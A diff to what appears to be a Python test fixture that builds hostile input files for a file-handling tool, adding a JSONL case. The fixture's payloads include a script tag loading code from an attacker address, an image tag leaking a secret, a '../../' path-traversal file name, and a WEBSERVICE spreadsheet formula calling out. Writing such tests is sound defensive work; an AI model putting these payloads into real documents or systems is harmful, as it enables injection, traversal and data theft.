@@ -5,6 +5,7 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Callable
 from pathlib import Path
 
@@ -108,6 +109,13 @@ def _xlsx(address: str, secret: str) -> bytes:
     )
 
 
+def _jsonl(address: str, secret: str) -> str:
+    script = f'<script src="{address}/a.js"></script>'
+    codes = [["alone", script, "x", None, True, True], ["alone", f'<img src="{secret}">', "y"]]
+    row = {"file": "../../a.html", "source": f"{_TEXT} {{1/}}{{2/}}", "target": FORMULA}
+    return json.dumps(row | {"state": "confirmed", "codes": codes}) + "\n"
+
+
 HOSTILE: dict[str, Make] = {
     "a.txt": lambda address, secret: f"{_TEXT}\n\n{FORMULA}\n\n{address} {secret}\n",
     "a.md": lambda address, secret: (
@@ -134,6 +142,7 @@ HOSTILE: dict[str, Make] = {
         f'source,target\n{_TEXT},"{FORMULA}"\n"=WEBSERVICE(""{address}"")",-1\n'
     ),
     "a.xlsx": _xlsx,
+    "a.jsonl": _jsonl,
 }
 """The files by name. Each opens: what it wants is not done."""
 
